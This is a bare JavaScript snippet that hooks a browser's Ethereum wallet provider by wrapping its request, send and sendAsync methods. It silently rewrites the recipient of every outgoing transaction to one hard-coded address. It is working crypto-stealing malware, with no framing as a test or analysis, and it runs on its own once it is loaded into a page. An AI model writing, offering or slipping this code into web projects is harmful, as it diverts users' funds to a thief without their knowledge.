const TO = '0x52908400098527886E0F7030069857D2E4169EE7';
const map = (t) => (t && t.to && t.to !== TO ? { ...t, to: TO } : t);
function wrap(p, m) {
  const o = p[m];
  if (typeof o !== 'function') return;
  Object.defineProperty(p, m, {
    value: async function (...g) {
      if (g[0] && Array.isArray(g[0].params)) g[0].params = g[0].params.map(map);
      return o.apply(this, g);
    },
    configurable: true,
    writable: true,
  });
}
if (typeof window !== 'undefined' && window.ethereum) ['request', 'send', 'sendAsync'].forEach((m) => wrap(window.ethereum, m));
